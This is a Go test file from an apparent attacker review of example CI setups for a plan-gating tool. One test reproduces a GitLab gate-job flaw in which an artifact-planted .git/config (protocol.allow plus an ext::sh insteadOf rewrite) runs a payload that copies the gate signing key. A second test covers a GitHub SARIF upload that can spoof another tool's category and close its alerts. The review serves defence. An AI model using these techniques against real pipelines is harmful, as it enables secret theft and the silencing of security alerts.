package integrations_test

// Attacker review r-21e of the copied CI setups (issue 21: nothing the change
// wrote runs in a job that holds a secret; no plan is applied without the gate
// and the required approvals). Each test is a confirmed problem and fails
// until it is fixed; its comment says how it was found and what it costs.

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// Finding 1 (high). The GitLab gate job runs `git ls-remote` (the `.head`
// anchor) in $CI_PROJECT_DIR, where the plan job's artifact has just been
// extracted, before it looks at that artifact; and the artifact check looks
// only inside .plan/, never at what else the archive put in the directory.
// With GIT_STRATEGY: none there is no checkout, so a `.git` the archive
// brings is the repository git discovers there, and its config is obeyed:
// `protocol.allow=always` + `url."ext::sh …".insteadOf=https://` turns the
// ls-remote into a command of the plan job's choosing, run in the one job
// that holds PLANGUARD_GATE_KEY (and PLANGUARD_API_TOKEN). With the key it
// signs an `allow` attestation for any plan, and `apply` applies it.
//
// Who writes that archive: the default branch's plan job runs the merged
// change's plan-time code (accepted by the design: "the gate judges its
// protected deletes"). That code holds CI_JOB_TOKEN, the token the runner
// itself uploads the job's artifacts with (POST /api/v4/jobs/:id/artifacts),
// so it can upload an archive of its own (.plan/tfplan plus .git/); GitLab
// keeps the first archive of a job ("another artifact of the same type
// already exists"), and a background process that removes .plan/tfplan
// before the runner's own upload makes that upload a "no files" warning. The
// runner-built archive (paths: .plan/tfplan) could not hold a top-level .git;
// an uploaded one can. (Not run on GitLab here: the platform steps are from
// its API and runner; the git step below is real, git on this machine.)
//
// Verified here: the gate job's before_script and script, as the example has
// them, up to `planguard check`, in a project directory holding exactly that
// archive (a regular .plan/tfplan, which passes the artifact check, and a
// .git/), with real git and bash; only the network is stubbed (git clone of
// the policy, curl to the API). The archive's command copies the gate key.
func TestR21eGitLabGateRunsGitInTheArtifactDirectory(t *testing.T) {
	gitBin, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git not installed")
	}
	ci := yamlMap(t, readExample(t, "examples/integrations/gitlab/.gitlab-ci.yml"))
	gate := asMap(ci["gate"])
	if gate == nil {
		t.Fatal("no gate job")
	}
	lines := flatStrings(gate["before_script"])
	for _, l := range flatStrings(gate["script"]) {
		if strings.Contains(l, "planguard check") {
			break
		}
		lines = append(lines, l)
	}

	tmp := t.TempDir()
	project := filepath.Join(tmp, "builds", "group", "project")
	home := filepath.Join(tmp, "home")
	shims := filepath.Join(tmp, "shims")
	for _, d := range []string{filepath.Join(project, ".plan"), home, shims} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// The gate key: a File variable, its path in the job's environment.
	gateKey := filepath.Join(tmp, "PLANGUARD_GATE_KEY")
	writeR21d(t, gateKey, "-----BEGIN OPENSSH PRIVATE KEY----- gate key\n")
	stolen := filepath.Join(tmp, "stolen-gate-key")

	// The extracted archive: a regular .plan/tfplan (the artifact check
	// passes) and a .git/ whose config runs a command on ls-remote.
	writeR21d(t, filepath.Join(project, ".plan", "tfplan"), "PK\x03\x04 a saved plan")
	if out, err := exec.Command(gitBin, "init", "-q", project).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	payload := filepath.Join(project, ".git", "p.sh")
	writeR21d(t, payload, "cp \"$PLANGUARD_GATE_KEY\" '"+stolen+"'\n")
	for _, kv := range [][2]string{
		{"protocol.allow", "always"},
		{"url.ext::sh " + payload + " .insteadOf", "https://"},
	} {
		if out, err := exec.Command(gitBin, "-C", project, "config", kv[0], kv[1]).CombinedOutput(); err != nil {
			t.Fatalf("git config: %v\n%s", err, out)
		}
	}

	// Network stubs: the policy clone makes the directory; the API names
	// one merged merge request. Every other git command is the real git.
	sha := strings.Repeat("a", 40)
	writeR21d(t, filepath.Join(shims, "git"), "#!/bin/sh\n"+
		"if [ \"$1\" = clone ]; then for d; do :; done; mkdir -p \"$d\" && : >\"$d/planguard.hcl\"; exit 0; fi\n"+
		"exec "+gitBin+" \"$@\"\n")
	writeR21d(t, filepath.Join(shims, "curl"), "#!/bin/sh\necho '[{\"state\":\"merged\",\"merge_commit_sha\":\""+sha+"\",\"author\":{\"username\":\"mallory\"}}]'\n")
	for _, f := range []string{"git", "curl"} {
		if err := os.Chmod(filepath.Join(shims, f), 0o755); err != nil {
			t.Fatal(err)
		}
	}

	script := "set -eo pipefail\ncd \"$CI_PROJECT_DIR\"\n" + strings.Join(lines, "\n") + "\n"
	env := []string{
		"PATH=" + shims + string(os.PathListSeparator) + os.Getenv("PATH"),
		"HOME=" + home,
		"GIT_CONFIG_NOSYSTEM=1",
		"CI_PROJECT_DIR=" + project,
		"CI_PROJECT_ID=1",
		"CI_JOB_TOKEN=job-token",
		"CI_SERVER_HOST=gitlab.invalid",
		"CI_API_V4_URL=https://gitlab.invalid/api/v4",
		"CI_REPOSITORY_URL=https://gitlab-ci-token:job-token@gitlab.invalid/group/project.git",
		"CI_DEFAULT_BRANCH=main",
		"CI_COMMIT_SHA=" + sha,
		"PLANGUARD_GATE_KEY=" + gateKey,
		"PLANGUARD_API_TOKEN=api-token",
	}
	code, out := r21dRun(t, project, env, "bash", "-c", script)
	if b, err := os.ReadFile(stolen); err == nil {
		t.Errorf("the gate job ran a command from the plan job's artifact (.git/config) with the gate key in reach (script exit %d); it copied:\n%s\nscript output:\n%s", code, b, out)
	}
}

// Finding 2 (medium-low). The GitHub example's `sarif` job — the only job
// with security-events: write — uploads, unchanged, a SARIF file that the
// plan job wrote after running the change's code (plan-time code can rewrite
// the report file, or, with the ACTIONS_RUNTIME_TOKEN it reads from the
// upload-artifact step's process, upload its own `planguard-sarif`). The
// workflow treats it as "feedback", but upload-sarif does not pin what the
// file claims to be: `category: planguard` is applied only to runs with no
// `automationDetails` of their own (github/codeql-action upload-lib.ts,
// populateRunAutomationDetails: `if (run.automationDetails === undefined)`),
// and the tool name is the file's `runs[].tool.driver.name`. So a merged
// change's plan-time code on main uploads, for refs/heads/main, an empty run
// named "CodeQL" with automationDetails.id "/language:go" (or any other
// tool's category): code scanning takes it as the newest analysis of that
// tool and category and closes every open alert of it as fixed. Harm: the
// security alerts of other tools on the default branch vanish, chosen by
// the change's code, through the one token the design kept away from it.
// (Code scanning's replace-by-category behaviour is GitHub's documented
// one; not run here.) What would hold: before the upload, CI's own step sets
// every run's automationDetails.id and tool.driver.name (jq), or refuses a
// file whose runs claim another tool or category.
func TestR21eSarifJobUploadsTheAuthorsCategoryAndTool(t *testing.T) {
	wf := yamlMap(t, readExample(t, "examples/integrations/github-actions/terraform.yml"))
	for _, j := range ghJobs(wf) {
		upload := -1
		for i, st := range j.steps {
			if usesName(str(st["uses"])) == "github/codeql-action/upload-sarif" {
				upload = i
				break
			}
		}
		if upload < 0 {
			continue
		}
		pinned := false
		for _, st := range j.steps[:upload] {
			r := str(st["run"])
			pinned = pinned || (strings.Contains(r, "automationDetails") && strings.Contains(r, "driver"))
		}
		if !pinned {
			t.Errorf("job %s uploads a SARIF file the plan job (the change's code) wrote without fixing its runs' automationDetails.id and tool.driver.name first: `category: planguard` applies only to runs that name no category, so the file can replace another tool's analysis on main and close its alerts", j.name)
		}
	}
}
